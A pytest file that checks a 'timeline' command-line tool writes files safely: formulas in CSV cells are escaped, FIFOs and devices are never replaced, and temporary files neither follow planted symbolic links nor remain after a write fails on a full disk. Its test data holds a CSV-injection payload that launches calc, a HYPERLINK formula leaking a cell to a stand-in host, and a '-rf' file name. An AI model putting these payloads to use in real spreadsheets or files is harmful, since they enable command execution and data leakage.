"""Files written by the tool: no formula in any CSV cell, only regular files replaced,
temporary files never through a symbolic link and never left behind."""
from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.test_reliability import EN, REPO, error_lines, run_cli
from timeline import cli, export
from timeline.store import Store

RISKY = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
            for cell in row[:]]


@pytest.fixture
def db(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.json").write_text(json.dumps({
        "id": HYPERLINK, "title": "+t", "outlet": "@o", "url": "-u", "published": "2021-03-01",
        "text": EN}), encoding="utf-8")
    (folder / "-rf-x.txt").write_text("Date: 2021-03-02\n\n" + EN, encoding="utf-8")
    path = tmp_path / "s.db"
    assert cli.main(["ingest", str(folder), "--db", str(path), "--quiet"]) == 0
    return path


def test_edges_csv_no_cell_of_any_column_starts_a_formula(db: Path, tmp_path: Path) -> None:
    store = Store(db)
    frame = store.events_frame()
    store.close()
    assert HYPERLINK in set(frame["article_id"])
    # every text column of the table, ids and actor codes included, made risky
    wild = frame.copy()
    for i, col in enumerate(c for c in wild.columns if wild[c].dtype == object
                            or str(wild[c].dtype).startswith(("str", "string"))):
        wild[col] = RISKY[i % len(RISKY)] + "cmd|' /C calc'!A0"
    for df in (frame, wild):
        cells = _cells(export.data_bytes(df, "csv"))
        assert cells and not [c for c in cells if c.startswith(RISKY)]
    cells = _cells(export.data_bytes(frame, "csv"))
    assert "'" + HYPERLINK in cells and any(c.startswith("'-rf-x-") for c in cells)
    out = tmp_path / "e.csv"
    assert cli.main(["export", "--db", str(db), "--data", "csv", "--out", str(out)]) == 0
    assert not [c for c in _cells(out.read_bytes()) if c.startswith(RISKY)]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_edges_force_never_replaces_a_device_or_fifo(db: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    fifo = tmp_path / "node"
    os.mkfifo(fifo)
    for args in (["export", "--db", str(db), "--data", "csv", "--out", str(fifo), "--force"],
                 ["export", "--db", str(db), "--data", "jsonl", "--out", "/dev/null", "--force"],
                 ["corrections", "export", str(fifo), "--db", str(db), "--force"]):
        assert cli.main(args) == 1
        lines = error_lines(capsys.readouterr().err)
        assert len(lines) == 1 and "not a regular file" in lines[0], lines
    assert fifo.is_fifo() and Path("/dev/null").is_char_device()
    folder = tmp_path / "dir"
    folder.mkdir()
    assert cli.main(["corrections", "export", str(folder), "--db", str(db)]) == 1
    assert "is a folder" in capsys.readouterr().err


def test_edges_temporary_file_never_follows_a_planted_link(db: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    for name in (f"{out.name}.part", "s.actors.tsv.part", "a.jsonl.part"):
        (tmp_path / name).symlink_to(victim)
    assert cli.main(["corrections", "export", str(out), "--db", str(db)]) == 0
    assert cli.main(["extract", str(db.parent / "in"), "--out", str(tmp_path / "a.jsonl")]) == 0
    res = run_cli("actors", "add", "--db", db, "--name", "Atlantis", "--code", "ATL",
                  "--kind", "state")
    assert res.returncode == 0, res.stderr
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert not [p for p in tmp_path.rglob("*.part") if not p.is_symlink()]


def test_edges_temporary_file_removed_and_file_named_on_a_full_disk(db: Path,
                                                                   tmp_path: Path) -> None:
    out = tmp_path / "events.jsonl"

    def small_disk() -> None:  # files may not grow past 300 bytes: writes fail as on a full disk
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (300, 300))

    res = subprocess.run([sys.executable, "-m", "timeline", "extract", str(db.parent / "in"),
                          "--out", str(out)], cwd=REPO, capture_output=True, text=True,
                         preexec_fn=small_disk, check=False, timeout=120)
    assert res.returncode == 1
    lines = error_lines(res.stderr)
    assert len(lines) == 1 and lines[0].startswith(f"timeline: {out}: cannot write"), lines
    assert not out.exists() and not list(tmp_path.glob("*.part")) \
        and not list(tmp_path.glob(".*.part"))
